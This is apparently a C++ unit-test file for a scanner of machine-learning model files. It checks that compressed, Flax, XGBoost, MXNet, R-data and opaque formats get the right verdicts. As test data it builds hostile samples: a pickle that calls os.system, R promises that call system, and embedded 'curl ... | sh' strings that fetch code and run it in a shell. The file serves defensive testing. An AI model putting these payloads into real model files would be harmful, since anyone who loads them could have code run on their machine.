#include "scan/small_models.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "scan/test_support.h"

namespace hauberk::scan {
namespace {

using namespace std::string_literals;

Report small_scan(const std::string& data, std::string_view name = "model") { return scan_bytes(data, name); }
std::string four(std::uint32_t value, bool big = false) {
  std::string out;
  for (int i = 0; i < 4; ++i) out += static_cast<char>(value >> (big ? 24 - 8 * i : 8 * i));
  return out;
}
std::string eight(std::uint64_t value) { return four(static_cast<std::uint32_t>(value)) + four(value >> 32); }
const std::string bad_pickle =
    "\x80\x02"
    "cos\nsystem\nU\x02idR.";

TEST(Compressed, lz4_and_zstd_show_what_is_within) {
  const auto size = static_cast<char>(bad_pickle.size());
  const std::string zstd = "\x28\xb5\x2f\xfd\x20"s + size + static_cast<char>(1 | size << 3) + "\0\0"s + bad_pickle;
  const std::string lz4 = "\x04\x22\x4d\x18\x60\x40\x82"s + size + "\0\0\x80"s + bad_pickle + four(0);
  const std::string skippable = "\x50\x2a\x4d\x18\x03\0\0\0abc"s;
  for (const auto& [data, format] :
       {std::pair(zstd, "zstd+pickle"), {lz4, "lz4+pickle"}, {zstd + skippable, "zstd+pickle"}}) {
    const auto report = small_scan(data, "m.joblib");
    EXPECT_EQ(report.format, format);
    EXPECT_EQ(report.verdict, ScanVerdict::malicious);
    EXPECT_NE(small_scan(data.substr(0, data.size() - 6)).verdict, ScanVerdict::clean);
    EXPECT_TRUE(has_rule(small_scan(data + "more"), "compressed.trailing-bytes"));
  }
}

TEST(Flax, arrays_and_texts_are_clean_and_the_rest_is_told) {
  const std::string array = "\xc7\x04\x01"s + "1234";
  const std::string fine = "\x81\xa6params\x82\xa1w"s + array + "\xa1n\x93\x01\xcb"s + std::string(8, '\0') + "\xc0";
  EXPECT_EQ(small_scan(fine).format, "flax-msgpack");
  EXPECT_EQ(small_scan(fine).verdict, ScanVerdict::clean);
  EXPECT_EQ(small_scan("\x81\xa6params\xc7\x01\x09x"s).verdict, ScanVerdict::review);
  EXPECT_EQ(small_scan("\x81\xa6params\xd9\x24import os; os.system('curl x | sh');"s + " ").verdict,
            ScanVerdict::malicious);
  EXPECT_EQ(small_scan(fine + "x").verdict, ScanVerdict::review);
  for (std::size_t cut = 4; cut < fine.size(); ++cut)
    EXPECT_NE(small_scan(fine.substr(0, cut)).verdict, ScanVerdict::clean) << cut;
  EXPECT_EQ(small_scan("\x81\xa1w\xdf\xff\xff\xff\xff\xa1"s).verdict, ScanVerdict::inconclusive);
  std::string deep = "\x81\xa1w"s;
  for (int i = 0; i < 1000; ++i) deep += '\x91';
  EXPECT_NE(small_scan(deep + "\x01").verdict, ScanVerdict::clean);
}

TEST(Flax, pickles_in_bytes_are_found_and_numbers_are_no_messages) {
  const auto bytes = [](const std::string& data) { return "\xc4"s + static_cast<char>(data.size()) + data; };
  for (const auto& text :
       {"\x81\xa1w\x82\xc4\x02nd\xc3\xc4\x04"s + "data" + bytes(bad_pickle),
        "\x82\xc4\x02nd\xc3\xc4\x04"s + "data" + bytes(bad_pickle), "\x92\x01"s + bytes(bad_pickle)}) {
    EXPECT_EQ(small_scan(text).format, "flax-msgpack");
    EXPECT_EQ(small_scan(text).verdict, ScanVerdict::malicious);
  }
  EXPECT_EQ(small_scan("\x81\xa1w"s + bytes("N.\0\0\0\0\0\0"s)).verdict, ScanVerdict::clean);
  // Weights may begin like a message, and do not end where it does.
  std::string weights = "\x82\xa1\x2f\x3d"s;
  for (int i = 1; i < 4096; ++i) weights += static_cast<char>(i * 7) + "\x01\xf0\x3d"s;
  EXPECT_NE(small_scan(weights, "model.onnx_data").format, "flax-msgpack");
}

TEST(Xgboost, ubjson_is_walked_to_its_end) {
  const auto key = [](const std::string& text) {
    return "L"s + std::string(7, '\0') + static_cast<char>(text.size()) + text;
  };
  const std::string fine = "{"s + key("learner") + "{" + key("name") + "S" + key("x") + key("trees") + "[$d#L" +
                           std::string(7, '\0') + "\x02" + std::string(8, '\0') + key("on") + "T" + "}}";
  EXPECT_EQ(small_scan(fine).format, "xgboost-ubjson");
  EXPECT_EQ(small_scan(fine).verdict, ScanVerdict::clean);
  EXPECT_EQ(small_scan(fine.substr(0, fine.size() - 1)).verdict, ScanVerdict::malformed);
  EXPECT_EQ(small_scan("{"s + key("learner") + "[$d#L" + std::string(8, '\x7f')).verdict, ScanVerdict::malformed);
}

TEST(Xgboost, the_old_binary_format_is_known_by_its_names) {
  const std::string model =
      "binf"s + std::string(136, '\0') + eight(16) + "reg:squarederror" + eight(6) + "gbtree" + "....";
  EXPECT_EQ(small_scan(model).format, "xgboost-binary");
  EXPECT_EQ(small_scan(model.substr(4)).format, "xgboost-binary");
}

TEST(Mxnet, lists_of_arrays_are_walked_to_their_end) {
  const std::string array = four(0xf993fac9) + four(0) + four(1) + eight(2) + eight(0) + four(0) + "abcdefgh";
  const std::string fine = eight(0x112) + eight(0) + eight(1) + array + eight(1) + eight(3) + "arg";
  EXPECT_EQ(small_scan(fine, "m.params").format, "mxnet-params");
  EXPECT_EQ(small_scan(fine, "m.params").verdict, ScanVerdict::clean);
  EXPECT_EQ(small_scan(fine.substr(0, fine.size() - 1), "m.params").verdict, ScanVerdict::malformed);
}

std::string r_file(const std::string& object) {
  return "X\n"s + four(2, true) + four(0x40102, true) + four(0x20300, true) + object;
}

TEST(RData, promises_are_found_and_values_are_clean) {
  const std::string one = four(13, true) + four(1, true) + four(7, true);  // 7L
  EXPECT_EQ(small_scan(r_file(one)).format, "r-data");
  EXPECT_EQ(small_scan(r_file(one)).verdict, ScanVerdict::clean);
  const std::string list = four(19, true) + four(2, true) + one + one;
  EXPECT_EQ(small_scan(r_file(list)).verdict, ScanVerdict::clean);
  EXPECT_EQ(small_scan("RDX2\n" + r_file(list)).verdict, ScanVerdict::clean);
  const std::string call = four(6, true) + four(1, true) + four(9, true) + four(6, true) + "system" + four(254, true);
  const std::string promise = four(5 | 0x400, true) + four(253, true) + four(252, true) + call;
  const auto report = small_scan(r_file(four(19, true) + four(2, true) + one + promise));
  EXPECT_EQ(report.verdict, ScanVerdict::malicious);
  EXPECT_TRUE(has_rule(report, "r.promise"));
  EXPECT_EQ(small_scan(r_file(list.substr(0, list.size() - 2))).verdict, ScanVerdict::malformed);
  EXPECT_EQ(small_scan(r_file(four(19, true) + four(0x7fffffff, true))).verdict, ScanVerdict::malformed);
  EXPECT_EQ(small_scan(r_file(four(21, true))).verdict, ScanVerdict::inconclusive);
}

std::string decimals(std::initializer_list<int> numbers) {
  std::string out;
  for (const int n : numbers) out += std::to_string(n) + "\n";
  return out;
}

TEST(RData, promises_are_found_in_every_form_of_the_format) {
  const std::string head = "A\n" + decimals({2, 262144, 131840});
  const std::string call = decimals({6, 1, 9, 6}) + "system\n" + decimals({254});
  const std::string promise = head + decimals({5, 252}) + call;
  const std::string fine = head + decimals({19, 2, 13, 1}) + "NA\n" + decimals({14, 2}) + "1.5\nInf\n";
  const std::string text = head + decimals({16, 1, 9, 5}) + "a\\040b\\n\\\\\n";
  for (const std::string_view magic : {"", "RDA2\n", "RDA3\n", "RDX2\n", "RDB3\n", "\n"}) {
    EXPECT_EQ(small_scan(std::string(magic) + promise, "m.rda").format, "r-data") << magic;
    EXPECT_EQ(small_scan(std::string(magic) + promise, "m.rda").verdict, ScanVerdict::malicious) << magic;
    EXPECT_EQ(small_scan(std::string(magic) + fine, "m.rda").verdict, ScanVerdict::clean) << magic;
  }
  EXPECT_EQ(small_scan(text, "m.rda").verdict, ScanVerdict::clean);
  EXPECT_EQ(small_scan(fine.substr(0, fine.size() - 6), "m.rda").verdict, ScanVerdict::malformed);
  EXPECT_EQ(small_scan(head + decimals({19, 2147483647}), "m.rda").verdict, ScanVerdict::malformed);
  EXPECT_EQ(small_scan("A\nlist of words\n", "m.txt").format, "text");
  const std::string native = "B\n" + four(2) + four(0x40102) + four(0x20300);
  EXPECT_EQ(small_scan(native + four(13) + four(1) + four(7)).verdict, ScanVerdict::clean);
  EXPECT_EQ(small_scan("RDB2\n" + native + four(5) + four(252) + four(254)).verdict, ScanVerdict::malicious);
  EXPECT_EQ(small_scan("X " + r_file(four(5, true) + four(252, true) + four(254, true)).substr(2)).verdict,
            ScanVerdict::malicious);
}

TEST(RData, packages_that_would_be_loaded_are_told) {
  const auto space = [](const std::string& name) {
    return r_file(four(249, true) + four(0) + four(1, true) + four(9, true) +
                  four(static_cast<std::uint32_t>(name.size()), true) + name);
  };
  EXPECT_EQ(small_scan(space("stats")).verdict, ScanVerdict::clean);
  EXPECT_EQ(small_scan(space("other")).verdict, ScanVerdict::review);
  EXPECT_TRUE(has_rule(small_scan(space("other")), "r.package"));
}

TEST(Opaque, what_nobody_can_look_into_is_said_to_be_so) {
  EXPECT_EQ(small_scan("ptrt"s + std::string(60, '\0'), "m.engine").verdict, ScanVerdict::review);
  EXPECT_EQ(small_scan("tjgg"s + std::string(60, '\0'), "m.bin").verdict, ScanVerdict::review);
  const std::string cat = "CBM1"s + four(40) + std::string(40, '\1');
  EXPECT_EQ(small_scan(cat, "m.cbm").verdict, ScanVerdict::clean);
  EXPECT_EQ(small_scan(cat.substr(0, 30), "m.cbm").verdict, ScanVerdict::malformed);
  EXPECT_EQ(small_scan("RKNN"s + std::string(20, '\0') + "import os; os.system('curl http://x | sh')").verdict,
            ScanVerdict::malicious);
  EXPECT_EQ(small_scan("RKNN is a format of Rockchip's").format, "text");
}

}  // namespace
}  // namespace hauberk::scan
